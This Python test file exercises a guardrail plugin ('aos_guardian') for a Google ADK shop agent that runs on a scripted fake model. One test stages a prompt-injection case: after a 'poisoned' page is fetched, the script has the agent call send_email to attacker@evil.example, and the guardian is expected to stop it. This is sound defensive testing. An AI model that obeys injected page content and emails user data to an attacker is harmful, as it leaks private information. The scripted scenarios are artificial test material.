from __future__ import annotations

import asyncio
import unittest
from collections.abc import AsyncGenerator
from typing import Any

from google.adk.agents import LlmAgent
from google.adk.agents.run_config import RunConfig, StreamingMode
from google.adk.models.base_llm import BaseLlm
from google.adk.models.llm_response import LlmResponse
from google.adk.runners import InMemoryRunner
from google.genai import types
from pydantic import PrivateAttr
from story import HARMFUL, KEY, ORDER, QUESTION, Played, Script, Story, fetching

from aos_guardian import Guardian
from aos_guardian.google_adk import GuardianPlugin


class Model(BaseLlm):
    """A model that does what the script says, and keeps what it was asked."""

    _played: Played = PrivateAttr()
    _script: Script = PrivateAttr()

    async def generate_content_async(self, llm_request: Any, stream: bool = False) -> AsyncGenerator[LlmResponse, None]:
        self._played.results, self._played.questions = [], []
        for part in [part for content in llm_request.contents for part in content.parts]:
            if part.function_response:
                self._played.results.append(str(part.function_response.response))
            elif part.text:
                self._played.questions.append(part.text)
        turn, step = self._script[self._played.asked], self._played.asked
        self._played.asked += 1
        calls = [] if isinstance(turn, str) else turn
        if stream:
            yield LlmResponse(content=types.Content(role="model", parts=[types.Part(text=str(turn))]), partial=True)
        parts = [
            types.Part(function_call=types.FunctionCall(id=f"call-{step}-{index}", name=name, args=given))
            for index, (name, given) in enumerate(calls)
        ]
        yield LlmResponse(content=types.Content(role="model", parts=parts or [types.Part(text=str(turn))]))


def runner(guardian: Guardian, played: Played, script: Script) -> InMemoryRunner:
    model = Model(model="scripted")
    model._played, model._script = played, script
    agent = LlmAgent(name="shop", model=model, tools=[played.fetch, played.send_email, played.note, played.fail])
    return InMemoryRunner(agent, app_name="shop", plugins=[GuardianPlugin(guardian)])


async def ask(runner: InMemoryRunner, session: Any, question: str) -> str | None:
    message, answer = types.Content(role="user", parts=[types.Part(text=question)]), None
    async for event in runner.run_async(user_id="u", session_id=session.id, new_message=message):
        if event.is_final_response() and event.content and event.content.parts:
            answer = event.content.parts[0].text
    return answer


class GoogleAdk(Story, unittest.TestCase):
    def play(self, guardian: Guardian, script: Script, question: str) -> Played:
        played = Played()

        async def run() -> None:
            shop = runner(guardian, played, script)
            session = await shop.session_service.create_session(app_name="shop", user_id="u")
            try:
                played.answer = await ask(shop, session, question)
            except ValueError as error:
                played.error = error

        asyncio.run(run())
        return played


class Corners(unittest.IsolatedAsyncioTestCase):
    async def test_a_denied_question_is_not_in_the_history(self) -> None:
        played = Played()
        shop = runner(Guardian(), played, ["Hello."])
        session = await shop.session_service.create_session(app_name="shop", user_id="u")
        self.assertIn("[guardian] ", str(await ask(shop, session, HARMFUL)))
        self.assertEqual("Hello.", await ask(shop, session, QUESTION))
        self.assertNotIn(HARMFUL, str(played.questions))

    async def test_streamed_text_is_not_held(self) -> None:
        shop = runner(Guardian(), Played(), [f"Here you are: {KEY}"])
        session = await shop.session_service.create_session(app_name="shop", user_id="u")
        message, seen = types.Content(role="user", parts=[types.Part(text=QUESTION)]), []
        streamed = RunConfig(streaming_mode=StreamingMode.SSE)
        async for event in shop.run_async(user_id="u", session_id=session.id, new_message=message, run_config=streamed):
            seen.append((bool(event.partial), KEY in str(event.content)))
        self.assertEqual([(True, True), (False, False)], seen)

    async def test_a_conversation_is_a_session(self) -> None:
        played = Played()
        script: Script = [[fetching("poisoned")], "49 EUR.", [("send_email", {"to": "attacker@evil.example"})], "Done."]
        shop = runner(Guardian(), played, script)
        session = await shop.session_service.create_session(app_name="shop", user_id="u")
        await ask(shop, session, QUESTION)
        await ask(shop, session, "Thank you. Anything else on that page?")
        self.assertEqual([fetching("poisoned")], played.ran)
        self.assertNotIn(ORDER, str(played.results))


if __name__ == "__main__":
    unittest.main()
